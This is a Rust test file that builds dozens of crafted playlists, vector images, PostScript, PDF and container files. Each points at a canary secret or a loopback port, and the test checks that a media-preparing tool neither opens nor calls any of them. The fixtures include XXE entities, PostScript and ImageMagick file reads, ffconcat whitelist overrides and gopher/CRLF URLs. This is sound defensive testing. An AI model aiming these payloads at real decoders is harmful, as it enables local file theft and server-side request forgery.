//! Files that name other files and addresses: none is opened, none is called, with the workers' locks and without.

use std::fs;
use std::io::Read as _;
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicU16, AtomicUsize, Ordering};
use std::time::Duration;

use rustix::fs::inotify;
use tempfile::tempdir;

use crate::support::{jsonl, run};

/// What a name promises must not matter.
const EXTENSIONS: [&str; 16] =
    ["mp4", "mov", "mkv", "webm", "avi", "ts", "flv", "jpg", "png", "gif", "webp", "mp3", "wav", "flac", "m4a", "txt"];
const SECRET: &[u8] = b"canary-77e1-never-read";

/// Text formats that lead elsewhere; FILE, NAME and URL stand for the canary by absolute and relative path and by address, HOST for the address alone,
/// LOCAL for a port at which somebody may listen.
const WORDS: [(&str, &str); 47] = [
    ("hls_file", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nFILE\n#EXT-X-ENDLIST\n"),
    ("hls_file_url", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile://FILE\n#EXT-X-ENDLIST\n"),
    ("hls_name", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nNAME\n#EXT-X-ENDLIST\n"),
    ("hls_http", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nURL/a.ts\n#EXT-X-ENDLIST\n"),
    ("hls_concat", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:9,\nconcat:URL/header.m3u8|FILE\n#EXT-X-ENDLIST\n"),
    ("hls_subfile", "#EXTM3U\n#EXTINF:9,\nsubfile,,start,0,end,64,,:FILE\n#EXT-X-ENDLIST\n"),
    ("hls_key", "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"URL/key\"\n#EXTINF:9,\nFILE\n#EXT-X-ENDLIST\n"),
    ("hls_map", "#EXTM3U\n#EXT-X-MAP:URI=\"FILE\"\n#EXTINF:9,\nURL/a.m4s\n#EXT-X-ENDLIST\n"),
    ("hls_range", "#EXTM3U\n#EXTINF:9,\n#EXT-X-BYTERANGE:10@0\nFILE\n#EXT-X-ENDLIST\n"),
    ("hls_variant", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nURL/v.m3u8\n"),
    (
        "hls_media",
        "#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",URI=\"URL/a.m3u8\"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"\nFILE\n",
    ),
    ("hls_crlf", "#EXTM3U\r\n#EXTINF:9,\r\ngopher://URL/\r\n#EXT-X-ENDLIST\r\n"),
    ("hls_udp", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nudp://HOST\n#EXT-X-ENDLIST\n"),
    ("hls_rtp", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nrtp://HOST\n#EXT-X-ENDLIST\n"),
    ("hls_srt", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nsrt://HOST?timeout=100000\n#EXT-X-ENDLIST\n"),
    ("hls_listens", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nudp://127.0.0.1:LOCAL?timeout=1000000\n#EXT-X-ENDLIST\n"),
    ("m3u", "FILE\nURL/a.mp3\n"),
    ("ffconcat_file", "ffconcat version 1.0\nfile 'FILE'\n"),
    ("ffconcat_name", "ffconcat version 1.0\nfile NAME\nduration 9\n"),
    ("ffconcat_http", "ffconcat version 1.0\nfile URL/a.mp4\n"),
    ("ffconcat_udp", "ffconcat version 1.0\nfile udp://HOST\nfile rtp://HOST\n"),
    ("ffconcat_option", "ffconcat version 1.0\nfile 'x'\noption safe 0\noption protocol_whitelist file,http,tcp\nfile 'FILE'\n"),
    (
        "dash_file",
        "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT9S\"><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"a\" bandwidth=\"1\"><BaseURL>FILE</BaseURL></Representation></AdaptationSet></Period></MPD>",
    ),
    (
        "dash_http",
        "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT9S\"><BaseURL>URL/</BaseURL><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"a\" bandwidth=\"1\"><SegmentList><SegmentURL media=\"a.m4s\"/></SegmentList></Representation></AdaptationSet></Period></MPD>",
    ),
    (
        "dash_xlink",
        "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><Period xlink:href=\"URL/p\" xlink:actuate=\"onLoad\"/></MPD>",
    ),
    ("sdp_video", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"),
    ("sdp_audio", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5006 RTP/AVP 0\n"),
    ("sdp_here", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video LOCAL RTP/AVP 96\na=rtpmap:96 H264/90000\n"),
    ("rtsp_udp", "rtsptext\r\nrtsp://HOST/a?udp\r\n"),
    ("rtsp_text", "rtsptext\r\nrtsp://HOST/a\r\n"),
    ("smil_text", "SMILtext<smil><body><video src=\"URL/a.mp4\"/></body></smil>"),
    ("pls", "[playlist]\nNumberOfEntries=2\nFile1=URL/a.mp3\nFile2=FILE\nVersion=2\n"),
    ("asx", "<asx version=\"3.0\"><entry><ref href=\"URL/a.wmv\"/></entry></asx>"),
    (
        "xspf",
        "<?xml version=\"1.0\"?><playlist version=\"1\" xmlns=\"http://xspf.org/ns/0/\"><trackList><track><location>file://FILE</location></track></trackList></playlist>",
    ),
    ("asf_reference", "[Reference]\r\nRef1=URL/a.asf\r\nRef2=FILE\r\n"),
    (
        "svg_file",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><image href=\"file://FILE\" width=\"9\" height=\"9\"/></svg>",
    ),
    (
        "svg_http",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><image href=\"URL/a.png\" width=\"9\" height=\"9\"/></svg>",
    ),
    (
        "svg_entity",
        "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file://FILE\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>",
    ),
    (
        "svg_include",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"FILE\" parse=\"text\"/></svg>",
    ),
    ("svg_style", "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@import url(\"URL/a.css\");</style><use href=\"URL/a.svg#b\"/></svg>"),
    ("postscript", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(FILE) (r) file 64 string readstring pop =\n"),
    ("pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(URL/a)>>/AF[<</F(FILE)>>]>>endobj\ntrailer<</Root 1 0 R>>\n"),
    ("magick_mvg", "push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'FILE'\nfill 'url(URL/a.png)'\npop graphic-context\n"),
    ("magick_msl", "<?xml version=\"1.0\"?><image><read filename=\"FILE\"/><write filename=\"URL/b\"/></image>"),
    ("avisynth", "FFmpegSource2(\"FILE\")\n"),
    ("lavfi", "movie=filename=FILE[out0]\n"),
    ("image2", "FILE%d.png\nglob:FILE*\n"),
];

fn atom(kind: [u8; 4], body: &[u8]) -> Vec<u8> {
    [&(body.len() as u32 + 8).to_be_bytes()[..], &kind, body].concat()
}

fn riff(kind: [u8; 4], body: &[u8]) -> Vec<u8> {
    let pad = vec![0; body.len() % 2];
    [&kind[..], &(body.len() as u32).to_le_bytes(), body, &pad].concat()
}

/// A QuickTime movie whose one track keeps its data at `place`, by a data reference of this kind.
fn data_reference(kind: [u8; 4], place: &str) -> Vec<u8> {
    let entry = atom(kind, &[&[0; 4][..], place.as_bytes(), &[0]].concat());
    let reference = atom(*b"dref", &[&[0, 0, 0, 0, 0, 0, 0, 1][..], &entry].concat());
    let described =
        atom(*b"stsd", &[&[0, 0, 0, 0, 0, 0, 0, 1][..], &atom(*b"avc1", &[&[0, 0, 0, 0, 0, 0, 0, 1][..], &[0; 70]].concat())].concat());
    let times = atom(*b"stts", &[0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1]);
    let chunks = atom(*b"stsc", &[0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1]);
    let sizes = atom(*b"stsz", &[0, 0, 0, 0, 0, 0, 0, 16, 0, 0, 0, 1]);
    let offsets = atom(*b"stco", &[0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]);
    let table = atom(*b"stbl", &[described, times, chunks, sizes, offsets].concat());
    let info = atom(*b"minf", &[atom(*b"vmhd", &[0; 12]), atom(*b"dinf", &reference), table].concat());
    let header = atom(*b"mdhd", &[&[0; 12][..], &[0, 0, 3, 232, 0, 0, 0, 1, 0, 0, 0, 0]].concat());
    let handler = atom(*b"hdlr", &[&[0; 8][..], b"vide", &[0; 13]].concat());
    let track = atom(*b"trak", &[atom(*b"tkhd", &[0; 84]), atom(*b"mdia", &[header, handler, info].concat())].concat());
    [atom(*b"ftyp", b"qt  \0\0\0\0qt  "), atom(*b"moov", &[atom(*b"mvhd", &[0; 100]), track].concat())].concat()
}

/// A QuickTime movie that is nothing but a reference to another.
fn reference_movie(place: &str) -> Vec<u8> {
    let target = [&[0; 4][..], b"url ", &(place.len() as u32 + 1).to_be_bytes(), place.as_bytes(), &[0]].concat();
    let described = atom(*b"rmda", &atom(*b"rdrf", &target));
    [atom(*b"ftyp", b"qt  \0\0\0\0qt  "), atom(*b"moov", &atom(*b"rmra", &described))].concat()
}

/// An AVI whose subtitle stream is a playlist: demuxers that open subtitles by their content follow it.
fn subtitles(playlist: &str) -> Vec<u8> {
    let header = riff(*b"strh", &[&b"txts"[..], &[0; 52]].concat());
    let list = riff(*b"LIST", &[&b"strl"[..], &header, &riff(*b"strf", &[])].concat());
    let main = riff(*b"LIST", &[&b"hdrl"[..], &riff(*b"avih", &[0; 56]), &list].concat());
    let gab2 = [&b"GAB2\0\x02\0\0\0\0\0\0\x04\0"[..], &(playlist.len() as u32).to_le_bytes(), playlist.as_bytes()].concat();
    riff(*b"RIFF", &[&b"AVI "[..], &main, &riff(*b"LIST", &[&b"movi"[..], &riff(*b"00tx", &gab2)].concat())].concat())
}

/// An MP3 whose cover picture is a link.
fn linked_cover(place: &str) -> Vec<u8> {
    let body = [&b"\0-->\0\x03\0"[..], place.as_bytes()].concat();
    let frame = [&b"APIC"[..], &(body.len() as u32).to_be_bytes(), &[0, 0], &body].concat();
    let sound: Vec<u8> = [0xff, 0xfb, 0x90, 0xc4].into_iter().chain([0; 413]).cycle().take(417 * 20).collect();
    [&b"ID3\x03\0\0\0\0"[..], &[(frame.len() >> 7) as u8, (frame.len() & 127) as u8], &frame, &sound].concat()
}

/// A Matroska file that says it goes on in another file of the folder, with a playlist attached.
fn linked_segment(playlist: &str) -> Vec<u8> {
    let element = |id: &[u8], body: &[u8]| [id, &(0x1000_0000_u32 | body.len() as u32).to_be_bytes(), body].concat();
    let info =
        element(&[0x15, 0x49, 0xa9, 0x66], &[element(&[0x3c, 0xb9, 0x23], &[7; 16]), element(&[0x3e, 0x83, 0xbb], b"NAME.mkv")].concat());
    let attached =
        [element(&[0x46, 0x6e], b"a.m3u8"), element(&[0x46, 0x60], b"application/x-mpegurl"), element(&[0x46, 0x5c], playlist.as_bytes())];
    let attachments = element(&[0x19, 0x41, 0xa4, 0x69], &element(&[0x61, 0xa7], &attached.concat()));
    let head = element(&[0x1a, 0x45, 0xdf, 0xa3], &element(&[0x42, 0x82], b"matroska"));
    [head, element(&[0x18, 0x53, 0x80, 0x67], &[info, attachments].concat())].concat()
}

/// Seventy-one files that lead to the canaries.
fn canaries(file: &str, name: &str, url: &str, local: &str) -> Vec<(String, Vec<u8>)> {
    let host = url.strip_prefix("http://").unwrap();
    let filled =
        |text: &str| text.replace("FILE", file).replace("NAME", name).replace("URL", url).replace("HOST", host).replace("LOCAL", local);
    let mut made: Vec<(String, Vec<u8>)> = WORDS.iter().map(|(name, text)| ((*name).to_owned(), filled(text).into_bytes())).collect();
    let mut add = |name: &str, bytes: Vec<u8>| made.push((name.to_owned(), bytes));
    for (kind, place) in [
        ("file", file.to_owned()),
        ("name", name.to_owned()),
        ("http", format!("{url}/a.mov")),
        ("file_url", format!("file://{file}")),
        ("udp", format!("udp://{host}")),
    ] {
        add(&format!("dref_url_{kind}"), data_reference(*b"url ", &place));
        add(&format!("dref_alis_{kind}"), data_reference(*b"alis", &place));
        add(&format!("rmra_{kind}"), reference_movie(&place));
        add(&format!("cover_{kind}"), linked_cover(&place));
    }
    add("gab2_hls", subtitles(&filled(WORDS[0].1)));
    add("gab2_http", subtitles(&filled(WORDS[3].1)));
    add("gab2_ffconcat", subtitles(&filled(WORDS[13].1)));
    add("segment", linked_segment(&filled(WORDS[3].1)));
    made
}

fn holds(path: &Path, needle: &[u8]) -> bool {
    fs::read(path).unwrap().windows(needle.len()).any(|window| window == needle)
}

fn files_beneath(folder: &Path) -> Vec<std::path::PathBuf> {
    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    entries.flat_map(|path| if path.is_dir() { files_beneath(&path) } else { vec![path] }).collect()
}

/// One port of TCP and UDP on loopback, and how often either was called.
fn canary_port() -> (u16, Arc<AtomicUsize>) {
    let (listener, datagrams) = loop {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        if let Ok(datagrams) = UdpSocket::bind(listener.local_addr().unwrap()) {
            break (listener, datagrams);
        }
    };
    let (port, hits) = (listener.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
    let (called, sent) = (Arc::clone(&hits), Arc::clone(&hits));
    std::thread::spawn(move || listener.incoming().for_each(|_| _ = called.fetch_add(1, Ordering::SeqCst)));
    std::thread::spawn(move || {
        while datagrams.recv(&mut [0; 64]).is_ok() {
            sent.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, hits)
}

/// Whether some process here has a UDP socket at this port.
fn is_listened_at(port: u16) -> bool {
    let tables = ["/proc/net/udp", "/proc/net/udp6"].map(|table| fs::read_to_string(table).unwrap_or_default());
    let at = format!(":{port:04X}");
    tables
        .iter()
        .flat_map(|table| table.lines().skip(1))
        .any(|line| line.split_whitespace().nth(1).is_some_and(|local| local.ends_with(&at)))
}

/// A port of UDP that nobody has, and how often somebody had it since: a socket that waits for data is there for a while.
fn watched_port() -> (u16, Arc<AtomicUsize>, Arc<AtomicU16>) {
    let port = UdpSocket::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let (taken, watched) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicU16::new(port)));
    let (count, which) = (Arc::clone(&taken), Arc::clone(&watched));
    std::thread::spawn(move || {
        loop {
            match which.load(Ordering::SeqCst) {
                0 => return,
                port => _ = count.fetch_add(usize::from(is_listened_at(port)), Ordering::SeqCst),
            }
            std::thread::sleep(Duration::from_millis(5));
        }
    });
    (port, taken, watched)
}

/// Waits for something that must happen.
fn until(there: impl Fn() -> bool, what: &str) {
    let start = std::time::Instant::now();
    while !there() {
        assert!(start.elapsed() < Duration::from_mins(1), "{what}");
        std::thread::sleep(Duration::from_millis(5));
    }
}

#[test]
fn no_file_makes_a_decoder_open_or_call_anything() {
    let work = tempdir().unwrap();
    let folder = work.path().join("in");
    fs::create_dir(&folder).unwrap();
    let (outside, beside) = (work.path().join("canary.key"), folder.join("canary.key"));
    let (port, hits) = canary_port();
    let (local, taken, watched) = watched_port();
    let url = format!("http://127.0.0.1:{port}");
    for canary in [&outside, &beside] {
        fs::write(canary, SECRET).unwrap();
    }
    let made = canaries(outside.to_str().unwrap(), "canary.key", &url, &local.to_string());
    assert_eq!(made.len(), 71);
    for (name, bytes) in &made {
        for extension in EXTENSIONS {
            fs::write(folder.join(format!("{name}.{extension}")), bytes).unwrap();
        }
    }
    let watch = inotify::init(inotify::CreateFlags::CLOEXEC | inotify::CreateFlags::NONBLOCK).unwrap();
    for canary in [&outside, &beside] {
        inotify::add_watch(&watch, canary, inotify::WatchFlags::OPEN | inotify::WatchFlags::ACCESS).unwrap();
    }
    let mut watch = fs::File::from(watch);
    for isolation in ["required", "off"] {
        let out = work.path().join(isolation);
        let done = run(&["prepare", folder.to_str().unwrap(), "--isolation", isolation, "--json", "-o", out.to_str().unwrap()]);
        assert_eq!(done.status.code(), Some(1), "{}", String::from_utf8_lossy(&done.stderr));
        let said: serde_json::Value = serde_json::from_slice(&done.stdout).unwrap();
        assert_eq!(said["refused_calls"], 0, "{isolation}: nothing so much as tried");
        let mut items: Vec<String> =
            jsonl(&out.join("parts.jsonl")).iter().map(|line| line["item_id"].as_str().unwrap().to_owned()).collect();
        items.dedup();
        assert_eq!(items.len(), made.len() * EXTENSIONS.len(), "every file has its end");
        let opened = watch.read(&mut [0; 4096]).map_err(|error| error.kind());
        assert_eq!(opened, Err(std::io::ErrorKind::WouldBlock), "{isolation}: a canary file was opened");
        assert_eq!(hits.load(Ordering::SeqCst), 0, "{isolation}: the canary port was called");
        assert_eq!(taken.load(Ordering::SeqCst), 0, "{isolation}: somebody listened");
        let leaks: Vec<_> = files_beneath(&out).into_iter().filter(|path| holds(path, SECRET)).collect();
        assert!(leaks.is_empty(), "{isolation}: {leaks:?}");
    }
    // The watches themselves work.
    fs::read(&outside).unwrap();
    assert!(watch.read(&mut [0; 4096]).is_ok());
    let here = UdpSocket::bind(("127.0.0.1", local)).unwrap();
    here.send_to(b"x", ("127.0.0.1", port)).unwrap();
    until(|| hits.load(Ordering::SeqCst) == 1, "a datagram is not seen");
    until(|| taken.load(Ordering::SeqCst) > 0, "a socket is not seen");
    watched.store(0, Ordering::SeqCst);
}
